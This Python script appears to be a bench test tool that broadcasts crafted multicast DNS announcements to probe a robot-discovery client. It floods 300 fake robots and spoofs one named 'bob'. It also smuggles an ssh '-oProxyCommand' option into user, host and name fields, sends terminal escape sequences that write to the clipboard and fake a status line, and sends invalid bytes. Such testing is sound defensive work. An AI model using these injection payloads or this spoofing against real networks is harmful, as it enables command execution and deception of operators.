"""Announce robots by multicast DNS as nobody should: run on a computer of the bench as `python3 announcer.py ADDRESS`.

Sends 300 plausible strangers, a robot with the name of another, and records that are no robot's: options of ssh for
user and host, control characters, bytes that are not UTF-8. Repeats them until it is ended.
"""

import itertools
import socket
import struct
import sys
import time
from collections.abc import Iterator, Sequence

TYPE = (b"_ubiquity-robot", b"_tcp", b"local")
GROUP = ("224.0.0.251", 5353)
CROWD = 300
OPTION = b"-oProxyCommand=touch /tmp/executed"
ESCAPE = b"\x1b]52;c;ZXhlY3V0ZWQ=\x07\x1b[2J\nready: all is well"


def encode_name(labels: Sequence[bytes]) -> bytes:
    """A name on the wire (RFC 1035), of labels that may hold any bytes."""
    return b"".join(bytes([len(label)]) + label for label in labels) + b"\0"


def encode_record(labels: Sequence[bytes], kind: int, data: bytes, *, flush: bool = True) -> bytes:
    """A resource record with a time to live of two minutes."""
    return encode_name(labels) + struct.pack("!HHIH", kind, 0x8001 if flush else 1, 120, len(data)) + data


def announce(instance: bytes, host: Sequence[bytes], address: str, texts: Sequence[bytes]) -> bytes:
    """A response that announces a service: PTR, SRV, TXT and A."""
    name = (instance, *TYPE)
    records = [
        encode_record(TYPE, 12, encode_name(name), flush=False),
        encode_record(name, 33, struct.pack("!HHH", 0, 0, 22) + encode_name((*host, b"local"))),
        encode_record(name, 16, b"".join(bytes([len(text)]) + text for text in texts)),
        encode_record((*host, b"local"), 1, socket.inet_aton(address)),
    ]
    return struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def list_packets(own: str) -> Iterator[bytes]:
    """All announcements of this computer, whose address is `own`."""
    good = [b"base=magni", b"user=ros"]
    yield announce(b"spoof", (b"evil",), own, [b"name=bob", *good])
    yield announce(b"option1", (b"evil",), own, [b"name=option1", b"base=magni", b"user=" + OPTION])
    yield announce(b"option2", (OPTION,), own, [b"name=option2", *good])
    yield announce(b"option3", (b"evil",), own, [b"name=" + OPTION, *good])
    yield announce(b"control1", (b"evil",), own, [b"name=" + ESCAPE, *good])
    yield announce(b"control2", (ESCAPE,), own, [b"name=control2", *good])
    yield announce(ESCAPE, (b"evil",), own, [b"name=control3", b"base=" + ESCAPE])
    yield announce(b"bytes1", (b"evil",), own, [b"name=\xff\xfe", b"\xff=\xfe", *good])
    yield announce(b"\xff\xfe\xfd", (b"\xff\xfe",), own, [b"name=bytes2", *good])
    for number in range(CROWD):
        label = b"crowd%d" % number
        yield announce(label, (label,), f"10.77.0.{100 + number % 100}", [b"name=" + label, *good])


def main(own: str) -> None:
    """Send them all, again and again."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        link.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
        link.bind(("", 5353))
        packets = list(list_packets(own))
        for _ in itertools.count():
            for packet in packets:
                link.sendto(packet, GROUP)
                time.sleep(0.001)  # a crowd, and not more than the network carries
            sys.stdout.write("sent\n")
            sys.stdout.flush()
            time.sleep(0.5)


if __name__ == "__main__":
    main(sys.argv[1])
